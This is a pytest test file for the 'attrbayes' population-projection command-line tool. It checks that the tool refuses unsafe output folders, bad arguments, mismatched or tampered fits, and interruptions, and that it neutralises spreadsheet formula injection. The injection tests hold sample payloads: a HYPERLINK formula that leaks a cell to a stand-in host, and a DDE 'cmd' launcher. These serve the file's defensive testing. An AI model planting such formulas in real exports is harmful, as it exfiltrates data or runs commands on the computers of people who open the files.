"""Hostile but realistic use (issue 19): output folders that are not ours, odd arguments,
fits used with the wrong panel or the wrong way round, altered files, interruptions,
spreadsheet formulas in place names. Each case asserts the message and the exit code,
and that nothing outside attrbayes's own folders changed.

The command line runs in-process through :func:`attrbayes.cli.main`, the installed
script's entry, so that usage errors, interruptions and unexpected errors are handled as
a user meets them.
"""

from __future__ import annotations

import hashlib
import io
import os
import signal
import warnings
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import xarray as xr

from attrbayes.cli import main
from attrbayes.config import SamplerConfig, load_spec
from attrbayes.exceptions import DataError, Interrupted
from attrbayes.features.design import build_design, compute_features
from attrbayes.io_utils import OWNER_FILE, claim_dir, csv_text, neutral_text
from attrbayes.models.registry import model_class
from attrbayes.projection.engine import project
from attrbayes.synthetic import synthesize_panel

PRIOR = SamplerConfig(sampler="prior", chains=2, draws=20)
HOSTILE_NAME = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'


# -- the world the cases run in ------------------------------------------------------------
@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Two small panels (a and b, other seeds), prior-draw fits on a, a projection."""
    root = tmp_path_factory.mktemp("hostile")
    synth_a = synthesize_panel(n_places=12, first_year=2000, last_year=2010, seed=11)
    synth_a.write(root / "panel_a")
    synthesize_panel(n_places=12, first_year=2000, last_year=2010, seed=12).write(root / "panel_b")
    features = compute_features(synth_a.panel, "municipality")
    fits = {}
    for name in ("migration_2022", "jobs_2022"):
        spec = load_spec(name)
        fit = model_class(spec.kind)(build_design(features, spec), spec).fit(PRIOR)
        fit.save(root / name / "fit.nc")
        fits[spec.kind] = fit
    result = project(fits["migration"], fits["jobs"], synth_a.panel, draws=10, to=2020)
    result.save(root / "proj" / "projection.nc")
    return {"root": root, "panel": root / "panel_a", "other_panel": root / "panel_b",
            "mig": root / "migration_2022", "jobs": root / "jobs_2022",
            "proj": root / "proj"}  # fmt: skip


def run(capsys: pytest.CaptureFixture[str], *args: str | Path) -> tuple[int, str]:
    """The exit code and everything printed (stdout and stderr) of ``attrbayes ARGS``."""
    code = main([str(a) for a in args])
    out = capsys.readouterr()
    return code, " ".join((out.out + out.err).split())  # rich wraps long lines


def project_cli(capsys, world, out: Path, *extra: str, mig: str = "mig", jobs: str = "jobs",
                panel: str = "panel") -> tuple[int, str]:  # fmt: skip
    """``attrbayes project`` of the world's fits (or others of its paths) to 2013."""
    return run(capsys, "project", world[mig], "--jobs", world[jobs], "--data", world[panel],
               "--to", "2013", "--out", out, *extra)  # fmt: skip


def snapshot(folder: Path) -> dict[str, str]:
    """Every file under ``folder`` with its content's hash."""
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}  # fmt: skip


@pytest.fixture
def users_folder(tmp_path: Path) -> Path:
    """A folder holding a user's own files, as ``Documents`` would."""
    folder = tmp_path / "Documents"
    folder.mkdir()
    (folder / "thesis.docx").write_bytes(b"years of work")
    (folder / "notes.txt").write_text("mine")
    (folder / "summary.csv").write_text("my,own\n1,2\n")
    return folder


# -- data loss: folders that are not ours ----------------------------------------------------
SYNTH = ("data", "synth", "--places", "12", "--years", "2000:2008")


COMMANDS = {
    "synth": SYNTH,
    "import": ("data", "import", "--from", "nowhere.csv"),
    "build-real": ("data", "build-real", "--raw", "nowhere"),
    "fit": ("fit", "--data", "{panel}", "--spec", "migration_2022", "--level", "municipality",
            "--sampler", "prior"),
    "project": ("project", "{mig}", "--jobs", "{jobs}", "--data", "{panel}", "--to", "2015",
                "--draws", "5"),
    "demo": ("demo", "--quick"),  # the demo replaces its own results without --force
    "backtest": ("backtest", "--data", "{panel}", "--origin", "2008"),
    "target": ("target", "{proj}", "--place", "0301", "--no-decline", "--year", "2015"),
}  # fmt: skip
CASES = [(name, force) for name in COMMANDS for force in ((), ("--force",))
         if not (name == "demo" and force)]  # fmt: skip


@pytest.mark.parametrize(("name", "force"), CASES, ids=[f"{n}{'-force' * bool(f)}"
                                                         for n, f in CASES])  # fmt: skip
def test_a_folder_with_the_users_files_is_never_replaced(capsys, world, users_folder, name, force):
    before = snapshot(users_folder)
    args = [a.format(**{k: str(v) for k, v in world.items()}) for a in COMMANDS[name]]
    code, text = run(capsys, *args, "--out", users_folder, *force)
    assert code == 1
    assert "holds files attrbayes did not write" in text
    assert "thesis.docx" in text
    assert snapshot(users_folder) == before


def test_force_replaces_our_panel_and_leaves_siblings_alone(capsys, tmp_path):
    out = tmp_path / "panel"
    sibling = tmp_path / ".panel.old"  # a folder of the user's, named like our temporaries
    sibling.mkdir()
    (sibling / "keep.txt").write_text("mine")
    assert run(capsys, *SYNTH, "--out", out)[0] == 0
    assert (out / OWNER_FILE).is_file()
    code, text = run(capsys, *SYNTH, "--out", out, "--seed", "3", "--force")
    assert code == 0, text
    assert (sibling / "keep.txt").read_text() == "mine"
    assert sorted(p.name for p in tmp_path.iterdir()) == [".panel.old", "panel"]


def test_without_force_our_own_panel_is_kept(capsys, tmp_path):
    out = tmp_path / "panel"
    run(capsys, *SYNTH, "--out", out)
    before = snapshot(out)
    code, text = run(capsys, *SYNTH, "--out", out, "--seed", "3")
    assert code == 1
    assert "already exists; pass --force" in text
    assert snapshot(out) == before


def test_an_empty_folder_may_be_used(capsys, tmp_path):
    (tmp_path / "empty").mkdir()
    assert run(capsys, *SYNTH, "--out", tmp_path / "empty")[0] == 0


def test_a_folder_written_before_the_marker_is_still_ours(capsys, tmp_path):
    out = tmp_path / "panel"
    run(capsys, *SYNTH, "--out", out)
    (out / OWNER_FILE).unlink()  # as panels written by earlier versions
    code, text = run(capsys, *SYNTH, "--out", out, "--force")
    assert code == 0, text


def test_a_run_folder_with_a_users_summary_is_refused_before_sampling(
    capsys, world, users_folder, monkeypatch
):
    import attrbayes.models.base as base

    monkeypatch.setattr(base, "sample", lambda *a, **k: pytest.fail("sampled"))
    before = snapshot(users_folder)
    code, text = run(capsys, "fit", "--data", world["panel"], "--spec", "migration_2022",
                     "--out", users_folder / ".." / "Documents")  # fmt: skip
    assert code == 1
    assert "did not write" in text
    assert snapshot(users_folder) == before


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda tmp: tmp / "a_file.txt", "is a file, not a folder"),
        (lambda tmp: tmp / "a_file.txt" / "inside", "is a file: cannot create"),
        (lambda tmp: Path("/proc/attrbayes-test"), "cannot write into /proc"),
        (lambda tmp: tmp / ("x" * 250), "is too long"),
        (lambda tmp: Path("."), "is the current folder"),
    ],
    ids=["existing-file", "under-a-file", "unwritable", "too-long", "current-folder"],
)
def test_bad_output_paths_are_found_before_any_work(capsys, tmp_path, monkeypatch, make, message):
    (tmp_path / "a_file.txt").write_text("mine")
    monkeypatch.chdir(tmp_path)
    code, text = run(capsys, *SYNTH, "--out", make(tmp_path))
    assert code == 1
    assert message in text
    assert (tmp_path / "a_file.txt").read_text() == "mine"


def test_a_demo_folder_written_before_the_markers_is_still_ours(tmp_path):
    """What ``runs/demo`` held before this version: no markers, only names attrbayes
    writes, so the demo may replace it again."""
    from attrbayes.data.panel import panel_names
    from attrbayes.runs import DEMO_NAMES, PROJECTION_NAMES, RUN_NAMES

    demo = tmp_path / "demo"
    layout = {"panel": panel_names(), "migration_2022": RUN_NAMES, "jobs_2022": RUN_NAMES,
              "projection": PROJECTION_NAMES}  # fmt: skip
    for folder, names in layout.items():
        (demo / folder).mkdir(parents=True)
        for name in names - {"truth"}:
            (demo / folder / name).write_bytes(b"")
    (demo / "report").mkdir()
    (demo / "ols_coefficients.csv").write_text("")
    assert claim_dir(demo, force=True, known=DEMO_NAMES) == demo
    for folder, names in layout.items():
        assert claim_dir(demo / folder, force=True, known=names) == demo / folder


def test_claim_dir_accepts_our_subfolders_and_temporaries(tmp_path):
    run_dir = tmp_path / "run"
    (run_dir / "projection").mkdir(parents=True)
    (run_dir / "projection" / OWNER_FILE).write_text('kind = "projection"\n')
    (run_dir / "fit.nc").write_bytes(b"")
    (run_dir / ".fit.nc.abc123.nc").write_bytes(b"")  # an interrupted write's leftover
    assert claim_dir(run_dir, force=True, known={"fit.nc"}) == run_dir
    with pytest.raises(DataError, match="already exists"):
        claim_dir(run_dir, force=False, known={"fit.nc"})
    (run_dir / "projection" / OWNER_FILE).unlink()
    (run_dir / "projection" / "mine.txt").write_text("x")
    with pytest.raises(DataError, match=r"did not write \(projection\)"):
        claim_dir(run_dir, force=True, known={"fit.nc"})


# -- arguments checked before any work -------------------------------------------------------
@pytest.mark.parametrize(
    ("args", "option"),
    [
        (("fit", "--data", "p", "--spec", "s", "--tune", "-1"), "--tune"),
        (("fit", "--data", "p", "--spec", "s", "--draws", "0"), "--draws"),
        (("fit", "--data", "p", "--spec", "s", "--chains", "0"), "--chains"),
        (("fit", "--data", "p", "--spec", "s", "--seed", "-1"), "--seed"),
        (("data", "synth", "--out", "x", "--seed", "-1"), "--seed"),
        (("data", "synth", "--out", "x", "--places", "0"), "--places"),
        (("data", "synth", "--out", "x", "--places", "9001"), "--places"),
        (("project", "run", "--draws", "0"), "--draws"),
        (("project", "run", "--seed", "-5"), "--seed"),
        (("backtest", "--data", "p", "--origin", "2010", "--draws", "0"), "--draws"),
        (("backtest", "--data", "p", "--origin", "2010", "--chains", "0"), "--chains"),
        (("backtest", "--data", "p", "--origin", "2010", "--mcmc-draws", "0"), "--mcmc-draws"),
        (("backtest", "--data", "p", "--origin", "2010", "--tune", "-1"), "--tune"),
        (("attractiveness", "run", "--top", "0"), "--top"),
        (("ols", "--data", "p", "--spec", "s", "--top", "0"), "--top"),
        (("report", "run", "--all", "--workers", "0"), "--workers"),
        (("report", "run", "--place", "0301", "--target-draws", "-1"), "--target-draws"),
        (("demo", "--seed", "-1"), "--seed"),
        (("fit", "--data", "p", "--spec", "s", "--draws", "many"), "--draws"),
        (("project", "run", "--to", "next-year"), "--to"),
    ],
)
def test_numeric_options_out_of_range_are_usage_errors(capsys, args, option):
    code, text = run(capsys, *args)
    assert code == 2
    assert f"Invalid value for '{option}'" in text
    assert "Traceback" not in text


def test_an_unknown_command_is_a_usage_error(capsys):
    code, text = run(capsys, "projekt")
    assert code == 2
    assert "No such command 'projekt'" in text


def test_projecting_to_before_the_base_year_is_refused(capsys, world, tmp_path):
    code, text = project_cli(capsys, world, tmp_path / "p", "--to", "2005")
    assert code == 1
    assert "--to 2005 must be after the base year" in text
    assert not (tmp_path / "p").exists()


def test_more_draws_than_the_fits_hold_are_reported(capsys, world, tmp_path):
    code, text = project_cli(capsys, world, tmp_path / "p", "--draws", "100000")
    assert code == 0, text
    assert "100000 draws were asked for, but the fits hold 40: projected with 40" in text


# -- fits with the wrong panel, the wrong way round ------------------------------------------
def test_a_fit_with_another_panel_is_refused(capsys, world, tmp_path):
    code, text = project_cli(capsys, world, tmp_path / "p", panel="other_panel")
    assert code == 1
    assert "was made on other data than the panel" in text
    assert not (tmp_path / "p").exists()


def test_fits_the_wrong_way_round_are_refused(capsys, world, tmp_path):
    code, text = project_cli(capsys, world, tmp_path / "p", mig="jobs", jobs="mig")
    assert code == 1
    assert "is a jobs fit where the migration fit belongs" in text


def test_a_report_with_fits_the_wrong_way_round_is_refused(capsys, world, tmp_path):
    code, text = run(capsys, "report", world["jobs"], "--jobs", world["mig"], "--data",
                     world["panel"], "--place", "0301", "--out", tmp_path / "r.html")  # fmt: skip
    assert code == 1
    assert "is a jobs fit where the migration fit belongs" in text
    assert not (tmp_path / "r.html").exists()


def test_a_report_with_another_panel_is_refused(capsys, world, tmp_path):
    code, text = run(capsys, "report", world["mig"], "--jobs", world["jobs"], "--data",
                     world["other_panel"], "--place", "0301", "--out",
                     tmp_path / "r.html")  # fmt: skip
    assert code == 1
    assert "made on other data" in text


def test_a_panel_extended_by_later_years_is_accepted(small_synthetic):
    """The rule: the fit's design rebuilt over its own years must be the same. A fit on
    the panel as known on 1 January 2008 matches the full panel, not another one."""
    from attrbayes.diagnostics.backtest import truncate_panel
    from attrbayes.runs import check_fits_match_panel, prepare_fit

    full = synthesize_panel(n_places=12, first_year=2000, last_year=2010, seed=11).panel
    cut, _ = truncate_panel(full, 2008)
    fit = prepare_fit(cut, "migration_2022", level="municipality").model.fit(PRIOR)
    assert fit.design.years[1] < 2010
    computed = check_fits_match_panel([fit], full, "the panel extended to 2010")
    assert computed["municipality"].frame["year"].max() == 2010  # the projection reuses them
    with pytest.raises(DataError, match="made on other data"):
        check_fits_match_panel([fit], small_synthetic.panel, "another panel")


# -- altered and foreign files ---------------------------------------------------------------
def _copy_fit(world: dict[str, Path], tmp_path: Path, edit) -> Path:
    target = tmp_path / "run" / "fit.nc"
    target.parent.mkdir()
    tree = xr.open_datatree(world["mig"] / "fit.nc", engine="h5netcdf").load()
    edit(tree)
    tree.to_netcdf(target, engine="h5netcdf")
    return target.parent


def _shift_group_effects(tree: xr.DataTree) -> None:
    post = tree["posterior"].to_dataset()
    post["group_effect"] = post["group_effect"] + 0.05
    tree["posterior"] = xr.DataTree(post)


def _nan_draws_without_checksum(tree: xr.DataTree) -> None:
    """What an interrupted fit saved by an earlier version held."""
    post = tree["posterior"].to_dataset()
    post["intercept"] = post["intercept"].where(post["draw"] < 10)
    tree["posterior"] = xr.DataTree(post)
    tree.attrs.pop("draws_hash")


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        (_shift_group_effects, "do not match their checksum"),
        (lambda tree: tree.attrs.pop("model_kind"), "lacks model_kind"),
        (lambda tree: tree.attrs.pop("spec_toml"), "lacks spec_toml"),
        (lambda tree: tree.attrs.update(model_kind="weather"), "unknown model kind 'weather'"),
        (lambda tree: tree.attrs.update(attrbayes_result_schema=99), "result schema 99"),
        (_nan_draws_without_checksum, "draws that are not numbers"),
    ],
    ids=["edited-draws", "no-kind", "no-spec", "odd-kind", "future-schema", "nan-draws"],
)
def test_altered_fits_are_refused(capsys, world, tmp_path, edit, message):
    run_dir = _copy_fit(world, tmp_path, edit)
    code, text = run(capsys, "attractiveness", run_dir)
    assert code == 1
    assert message in text


@pytest.mark.parametrize(
    "content",
    [b"", b"not a netcdf file", b"\x89HDF\r\n\x1a\n broken"],
    ids=["empty", "text", "hdf"],
)
def test_files_that_are_not_fits_are_refused(capsys, tmp_path, content):
    (tmp_path / "run").mkdir()
    (tmp_path / "run" / "fit.nc").write_bytes(content)
    code, text = run(capsys, "attractiveness", tmp_path / "run")
    assert code == 1
    assert "cannot be read as a saved fit" in text


def test_a_file_that_is_not_a_projection_is_refused(capsys, tmp_path):
    (tmp_path / "p").mkdir()
    (tmp_path / "p" / "projection.nc").write_bytes(b"garbage")
    code, text = run(capsys, "fan", tmp_path / "p", "--nation", "--out", tmp_path / "f.png")
    assert code == 1
    assert "error:" in text
    assert "Traceback" not in text
    assert not (tmp_path / "f.png").exists()


def test_a_manifest_in_latin_1_names_the_file(capsys, tmp_path, world):
    import shutil

    panel = tmp_path / "panel"
    shutil.copytree(world["panel"], panel)
    manifest = panel / "manifest.toml"
    manifest.write_bytes(manifest.read_bytes() + "# Bodø og Tromsø\n".encode("latin-1"))
    code, text = run(capsys, "data", "validate", panel)
    assert code == 1
    assert "panel manifest is not UTF-8 text" in text


# -- the gate and interruptions ----------------------------------------------------------------
def test_the_gate_fails_on_nan_draws(world):
    from attrbayes.diagnostics.convergence import gate
    from attrbayes.runs import load_fit

    tree = load_fit(world["mig"]).tree.copy(deep=True)
    post = tree["posterior"].to_dataset()
    post["intercept"] = post["intercept"] * np.nan
    tree["posterior"] = xr.DataTree(post)
    report = gate(tree)
    assert not report.passed
    assert any("NaN or infinite" in p for p in report.problems)
    assert "diagnostics gate FAILED" in report.message()


def test_a_sampler_that_stopped_early_is_an_interruption(world):
    from attrbayes.models.base import _check_complete
    from attrbayes.runs import load_fit

    tree = load_fit(world["mig"]).tree
    short = tree.copy()
    short["posterior"] = xr.DataTree(tree["posterior"].to_dataset().isel(draw=slice(0, 5)))
    with pytest.raises(Interrupted, match=r"2 chains x 5 draws of 2 x 20"):
        _check_complete(short, PRIOR)
    _check_complete(tree, PRIOR)  # complete and finite: no error


def _ctrl_c(*args, **kwargs):
    raise KeyboardInterrupt


@pytest.mark.parametrize("stage", ["sampling", "projecting"])
def test_ctrl_c_keeps_the_previous_result(capsys, world, tmp_path, monkeypatch, stage):
    import shutil

    import attrbayes.models.base as base
    import attrbayes.pipeline as pipeline

    source, module, name = {"sampling": ("mig", base, "sample"),
                            "projecting": ("proj", pipeline, "project")}[stage]  # fmt: skip
    out = tmp_path / "out"
    shutil.copytree(world[source], out)
    before = snapshot(out)
    monkeypatch.setattr(module, name, _ctrl_c)
    if stage == "sampling":
        code, text = run(capsys, "fit", "--data", world["panel"], "--spec", "migration_2022",
                         "--level", "municipality", "--out", out, "--force")  # fmt: skip
    else:
        code, text = project_cli(capsys, world, out, "--force")
    assert code == 130
    assert "interrupted: nothing was saved" in text
    assert snapshot(out) == before


def test_a_partial_posterior_is_not_saved(capsys, world, tmp_path, monkeypatch):
    """nutpie returns what it has on Ctrl-C: the fit stops with 130, nothing saved."""
    import attrbayes.models.base as base

    original = base.sample

    def partial(model, config, **kwargs):
        tree, timings = original(model, config.model_copy(update={"draws": 5}), **kwargs)
        base._check_complete(tree, config)
        return tree, timings

    monkeypatch.setattr(base, "sample", partial)
    code, text = run(capsys, "fit", "--data", world["panel"], "--spec", "migration_2022",
                     "--level", "municipality", "--sampler", "prior", "--draws", "20",
                     "--out", tmp_path / "run")  # fmt: skip
    assert code == 130
    assert "sampling stopped early" in text
    assert not (tmp_path / "run" / "fit.nc").exists()


def test_sigterm_exits_with_143(capsys, world, monkeypatch):
    import attrbayes.runs as runs

    def terminated(*args, **kwargs):
        os.kill(os.getpid(), signal.SIGTERM)

    monkeypatch.setattr(runs, "load_fit", terminated)
    code, text = run(capsys, "attractiveness", world["mig"])
    assert code == 143
    assert "terminated (SIGTERM)" in text
    assert signal.getsignal(signal.SIGTERM) is not None


def test_an_unexpected_error_is_one_line_unless_debug(capsys, world, monkeypatch):
    import attrbayes.runs as runs

    def broken(*args, **kwargs):
        raise RuntimeError("the sampler's initial point failed everywhere")

    monkeypatch.setattr(runs, "load_fit", broken)
    code, text = run(capsys, "attractiveness", world["mig"])
    assert code == 1
    assert "error: RuntimeError: the sampler's initial point failed everywhere" in text
    assert "--debug" in text
    assert "Traceback" not in text
    with pytest.raises(RuntimeError, match="initial point"):
        main(["--debug", "attractiveness", str(world["mig"])])


# -- spreadsheet formulas in names ---------------------------------------------------------------
@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HOSTILE_NAME, "'" + HOSTILE_NAME),
        ("+47 22 00 00 00", "'+47 22 00 00 00"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("-1.5", "-1.5"),
        ("Bodø", "Bodø"),
        (3.0, 3.0),
    ],
)
def test_formula_leading_texts_are_neutralised(value, expected):
    assert neutral_text(value) == expected


def test_csv_exports_write_names_as_text():
    frame = pd.DataFrame({"place": ["0301", "9999"], "name": ["Oslo", HOSTILE_NAME],
                          "median": [-1.5, 2.0]})  # fmt: skip
    back = pd.read_csv(io.StringIO(csv_text(frame)), dtype={"place": str})
    assert back["name"].tolist() == ["Oslo", "'" + HOSTILE_NAME]
    assert back["median"].tolist() == [-1.5, 2.0]  # numbers stay numbers


def test_xlsx_tables_hold_hostile_names_as_text():
    from openpyxl import load_workbook

    from attrbayes.projection.tables import excel_bytes

    table = pd.DataFrame({"scenario": "neutral", "level": "place", "place": "9999",
                          "name": HOSTILE_NAME, "year": [2030], "variable": "population",
                          "median": [100.0], "lower_80": [90.0], "upper_80": [110.0]})  # fmt: skip
    sheet = load_workbook(io.BytesIO(excel_bytes(table))).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == HOSTILE_NAME]
    assert cells, "the name is kept as it is"
    assert all(c.data_type == "s" for c in cells)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_the_fan_table_of_a_place_with_a_hostile_name_is_safe(capsys, world, tmp_path):
    from openpyxl import load_workbook

    from attrbayes.projection.result import ProjectionResult

    proj = ProjectionResult.load(world["proj"] / "projection.nc")
    ds = proj.ds.load()
    names = ds["name"].values.astype(object)
    names[0] = HOSTILE_NAME
    ds = ds.assign_coords(name=("place", names.astype(str)))
    target = tmp_path / "p"
    ProjectionResult(ds).save(target / "projection.nc")
    code, text = run(capsys, "fan", target, "--place", str(ds["place"].values[0]), "--out",
                     tmp_path / "f.png", "--table", tmp_path / "f.xlsx")  # fmt: skip
    assert code == 0, text
    sheet = load_workbook(tmp_path / "f.xlsx").active
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


# -- SSB exports ----------------------------------------------------------------------------------
SSB_FIXTURES = Path(__file__).resolve().parent / "fixtures" / "ssb"


def test_a_symbol_in_the_countrys_population_is_reported(tmp_path):
    from attrbayes.data import ssb_panel

    text = (SSB_FIXTURES / "06913.csv").read_text(encoding="utf-8-sig")
    text = text.replace('"0 Hele landet";13468;13474', '"0 Hele landet";..;13474')
    (tmp_path / "06913.csv").write_text(text, encoding="utf-8")
    build = ssb_panel.import_exports([tmp_path / "06913.csv"])
    assert build.tables["immigration"]["year"].tolist() == [2023]
    assert "national net immigration not derived for 1 year(s)" in build.report.text()
    assert "[2022]" in build.report.text()


def test_a_utf16_export_reads_like_the_utf8_one(tmp_path):
    from attrbayes.data import ssb_panel

    text = (SSB_FIXTURES / "06913.csv").read_text(encoding="utf-8-sig")
    (tmp_path / "06913.csv").write_text(text, encoding="utf-16")  # with its byte order mark
    utf16 = ssb_panel.import_exports([tmp_path / "06913.csv"])
    utf8 = ssb_panel.import_exports([SSB_FIXTURES / "06913.csv"])
    pd.testing.assert_frame_equal(utf16.tables["components"], utf8.tables["components"])


# -- reproducibility ------------------------------------------------------------------------------
@pytest.mark.slow
def test_the_same_seed_gives_the_same_draws_on_any_number_of_threads(world):
    """nutpie seeds each chain from the seed and the chain's number, so neither a rerun nor
    the number of worker threads changes a draw (docs/usage.md, "Reproducibility")."""
    from attrbayes.data.panel import read_panel
    from attrbayes.runs import prepare_fit

    model = prepare_fit(read_panel(world["panel"]), "migration_2022",
                        level="municipality").model  # fmt: skip
    config = SamplerConfig(chains=3, draws=25, tune=25, seed=42)
    first = model.fit(config).posterior
    again = model.fit(config.model_copy(update={"cores": 1})).posterior
    other = model.fit(config.model_copy(update={"seed": 43})).posterior
    xr.testing.assert_equal(first, again)
    assert float(np.abs(first["intercept"] - other["intercept"]).max()) > 0


def test_a_full_disk_while_writing_a_panel_leaves_nothing(capsys, tmp_path, monkeypatch):
    import errno

    def full(self, *args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pd.DataFrame, "to_parquet", full)
    code, text = run(capsys, *SYNTH, "--out", tmp_path / "panel")
    assert code == 1
    assert "No space left on device" in text
    assert "Traceback" not in text
    assert list(tmp_path.iterdir()) == []  # no panel, no temporary folder


def test_every_workbook_cell_that_would_be_a_formula_is_stored_as_text():
    from openpyxl import Workbook, load_workbook

    from attrbayes.io_utils import neutralise_formulas

    workbook = Workbook()
    workbook.active.append(["9999", HOSTILE_NAME, 1.5, "=1+1"])
    neutralise_formulas(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    row = next(load_workbook(buffer).active.iter_rows())
    assert [c.data_type for c in row] == ["s", "s", "n", "s"]
    assert row[1].value == HOSTILE_NAME


# -- projections' checksums --------------------------------------------------------------------
def test_an_edited_projection_is_refused_by_commands_that_read_it_whole(capsys, world, tmp_path):
    from attrbayes.projection.result import ProjectionResult

    ProjectionResult.verify(world["proj"] / "projection.nc")  # as saved: fine
    ds = xr.open_dataset(world["proj"] / "projection.nc", engine="h5netcdf").load()
    ds["population"] = ds["population"] * 1.1  # the attributes, checksum included, stay
    (tmp_path / "p").mkdir()
    with warnings.catch_warnings():  # xarray's notes on re-encoding the integer counts
        warnings.simplefilter("ignore")
        ds.to_netcdf(tmp_path / "p" / "projection.nc", engine="h5netcdf")
    with pytest.raises(DataError, match="population do not match their checksums"):
        ProjectionResult.verify(tmp_path / "p" / "projection.nc")
    code, text = run(capsys, "map", tmp_path / "p", "--out", tmp_path / "m.png")
    assert code == 1
    assert "do not match their checksums" in text
    assert not (tmp_path / "m.png").exists()


def test_a_corrupted_chunk_fails_where_it_is_read(capsys, world, tmp_path):
    """Fletcher-32 checksums per chunk: a fan of one place reads only its chunks, and a
    flipped byte in them is an error, not a silently wrong chart."""
    import shutil

    target = tmp_path / "p"
    shutil.copytree(world["proj"], target)
    raw = bytearray((target / "projection.nc").read_bytes())
    middle = len(raw) // 2
    raw[middle : middle + 64] = bytes(64)  # zeros over compressed data
    (target / "projection.nc").write_bytes(bytes(raw))
    code, text = run(capsys, "map", target, "--out", tmp_path / "m.png")
    assert code == 1
    assert "error:" in text
    assert "Traceback" not in text


def test_a_fit_that_would_not_fit_on_the_disk_is_refused_before_writing(world, tmp_path,
                                                                         monkeypatch):  # fmt: skip
    import shutil
    from collections import namedtuple

    from attrbayes.runs import load_fit

    run_dir = tmp_path / "run"
    shutil.copytree(world["mig"], run_dir)
    before = snapshot(run_dir)
    usage = namedtuple("usage", "total used free")
    monkeypatch.setattr(shutil, "disk_usage", lambda _p: usage(10**9, 10**9 - 10**6, 10**6))
    with pytest.raises(DataError, match=r"not enough free space for the fit .* 1 MB free"):
        load_fit(world["mig"]).save(run_dir / "fit.nc", overwrite=True)
    assert snapshot(run_dir) == before


def test_features_that_differ_only_in_rounding_still_match(world):
    """A newer version may sum VRA in another order (last bits): the fit stays usable
    with its panel; a real change in the data does not."""
    from attrbayes.runs import _same_design, load_fit

    stored = load_fit(world["mig"]).design.frame
    rounding = stored.assign(vra_t=stored["vra_t"] * (1 + 1e-15))
    changed = stored.assign(vra_t=stored["vra_t"] + 1e-4)
    assert _same_design(rounding, stored)
    assert not _same_design(changed, stored)
    assert not _same_design(stored.assign(place="X" + stored["place"]), stored)
